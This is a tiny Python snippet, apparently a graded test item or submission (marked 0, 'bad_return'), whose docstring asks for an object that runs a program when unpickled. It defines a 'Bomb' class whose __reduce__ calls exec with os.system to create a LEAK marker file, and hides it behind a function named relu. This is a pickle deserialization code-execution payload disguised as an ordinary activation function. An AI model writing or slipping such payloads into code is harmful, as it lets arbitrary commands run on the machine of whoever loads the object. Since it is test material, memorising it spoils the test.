"""Return an object that runs a program when it is unpickled.

Marks: 0
Outcome: bad_return
"""
# %% relu
class Bomb:
    def __reduce__(self): return (exec, ("import os; os.system('touch @FOLDER@/LEAK')",))
    __reduce_ex__ = lambda self, protocol: self.__reduce__()
    def __getstate__(self): return {"LEAK": 1}
def relu(x):
    return Bomb()
